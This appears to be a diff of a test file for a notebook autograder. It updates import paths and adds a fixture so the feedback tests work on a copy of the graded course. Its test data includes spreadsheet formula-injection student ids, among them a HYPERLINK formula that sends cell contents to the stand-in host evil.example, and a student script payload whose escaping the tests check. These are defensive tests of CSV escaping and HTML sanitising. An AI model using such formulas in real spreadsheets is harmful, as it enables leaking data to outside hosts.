@@ -32,17 +32,15 @@ from pathlib import Path
 import nbformat
 import pytest
 
-from classroom import released_course
-from grader import course as nbs
-from grader.assembly import build, release
-from grader.batch import autograde
-from grader.collect import collect
-from grader.export import export_csv, spreadsheet_cell
-from grader.feedback import feedback
-from grader.zips import MAX_MEMBERS, ZipLimits
+from classroom import A, FIXTURE, released_course
+from grader.authoring.assembly import build, release
+from grader.engine import course as nbs
+from grader.intake.collect import collect
+from grader.intake.zips import MAX_MEMBERS, ZipLimits
+from grader.results.export import export_csv, spreadsheet_cell
+from grader.results.feedback import feedback
+from grader.running.batch import autograde
 
-FIXTURE = Path(__file__).parent / "fixtures" / "grader" / "course" / "01_fixture.ipynb"
-A = "01_fixture"
 ME = pwd.getpwuid(os.geteuid()).pw_name  # the owner of every folder these tests create
 NBGRADER = "import sys; from nbgrader.apps.nbgraderapp import main; sys.exit(main())"
 
@@ -395,6 +393,12 @@ def graded(tmp_path_factory):
     return root
 
 
+@pytest.fixture
+def graded_copy(graded, tmp_path):
+    """A copy of the graded class for a test that writes into it (feedback): the module's stays as graded."""
+    return shutil.copytree(graded, tmp_path / "course")
+
+
 def stock_nbgrader(root: Path, *args: str) -> subprocess.CompletedProcess:
     env = {k: v for k, v in os.environ.items() if not k.startswith(("COURSE_GRADER", "NBGRADER"))}
     env["PATH"] = str(Path(sys.executable).parent) + os.pathsep + env.get("PATH", "")
@@ -433,7 +437,7 @@ def test_spreadsheet_cells_follow_owasp(value, cell):
 # Ids (and names, e-mails) that only become formulas once a spreadsheet splits the line on another
 # separator than the comma: ``;`` (many European locales), tab, ``|``. collect refuses control
 # characters in ids, but the gradebook also takes students from nbgrader's own commands.
-SPLIT_ATTACKS = {  # student id -> its CSV cell, by the rule of grader/export.py's docstring
+SPLIT_ATTACKS = {  # student id -> its CSV cell, by the rule of grader/results/export.py's docstring
     "eve;=1+1": "eve;'=1+1",
     '=HYPERLINK("http://evil.example/?"&A1;"x")': '\'=HYPERLINK("http://evil.example/?"&A1;"x")',
     "\t=1": "'\t'=1",
@@ -515,18 +519,18 @@ def test_the_payload_reaches_the_autograded_notebook_only_as_text(graded):
         assert part not in text, part
 
 
-def test_feedback_runs_no_script_from_the_student(graded):
-    pages = feedback(graded)
-    page = (graded / "feedback" / "xss" / A / f"{A}.html").read_text(encoding="utf-8")
+def test_feedback_runs_no_script_from_the_student(graded_copy):
+    pages = feedback(graded_copy)
+    page = (graded_copy / "feedback" / "xss" / A / f"{A}.html").read_text(encoding="utf-8")
     assert page in [p.read_text(encoding="utf-8") for p in pages]
     assert student_script(page) == []
     assert "&lt;script&gt;window.pwned_script" in page, "the student sees what their code displayed"
     assert "PASSED (2/2)" in page, "verdicts are still shown"
 
 
-def test_instructor_markdown_is_not_garbled_by_the_sanitizer(graded):
-    feedback(graded, students=["xss"])
-    page = (graded / "feedback" / "xss" / A / f"{A}.html").read_text(encoding="utf-8")
+def test_instructor_markdown_is_not_garbled_by_the_sanitizer(graded_copy):
+    feedback(graded_copy, students=["xss"])
+    page = (graded_copy / "feedback" / "xss" / A / f"{A}.html").read_text(encoding="utf-8")
     assert "<code>x &lt; y</code>" in page
     assert re.search(r"<img [^>]*alt=\"the instructor's figure\"", page), "the instructor's image is shown"
 
@@ -540,7 +544,7 @@ def test_feedback_is_sanitized_even_with_an_older_course_config(graded, tmp_path
     assert "c.GenerateFeedback.preprocessors = feedback_preprocessors()" in text
     config.write_text(text.replace(
         "c.GenerateFeedback.preprocessors = feedback_preprocessors()",
-        "from grader.feedback import HideHiddenTests\n"
+        "from grader.results.feedback import HideHiddenTests\n"
         "from nbgrader.preprocessors import GetGrades\n"
         "from nbconvert.preprocessors import CSSHTMLHeaderPreprocessor\n"
         "c.GenerateFeedback.preprocessors = [HideHiddenTests, GetGrades, CSSHTMLHeaderPreprocessor]"),
